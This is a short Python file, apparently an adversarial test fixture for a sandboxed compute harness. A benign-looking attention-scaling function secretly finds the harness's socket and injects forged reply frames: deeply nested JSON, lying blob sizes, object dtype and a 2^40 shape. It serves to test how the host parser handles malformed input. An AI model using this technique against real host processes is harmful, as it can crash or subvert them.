"""Attack: at every call, forge a reply first: deeply nested JSON, lying blob sizes, bad dtypes, huge shapes."""

import json
import os
import stat
import struct

import numpy as np

_n = [0]
FORGERIES = [
    (b"[" * 100_000 + b"]" * 100_000, b""),
    (json.dumps({"ok": True, "blobs": [16], "result": {"t": "a", "i": 0, "d": "<f8", "s": [1 << 40, 0]}}).encode(), b"\x00" * 16),
    (json.dumps({"ok": True, "blobs": [8], "result": {"t": "a", "i": 0, "d": "O", "s": [1]}}).encode(), b"\x00" * 8),
    (json.dumps({"ok": True, "blobs": [5, -5]}).encode(), b""),
    (json.dumps({"ok": True, "blobs": [8], "result": {"t": "a", "i": 0, "d": "<f8", "s": [True]}}).encode(), b"\x00" * 8),
]


def _sock():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass


def scale_scores(scores, d_k):
    raw, blob = FORGERIES[_n[0] % len(FORGERIES)]
    _n[0] += 1
    os.write(_sock(), struct.pack("!II", len(raw), len(blob)) + raw + blob)
    return np.asarray(scores) / np.sqrt(d_k)
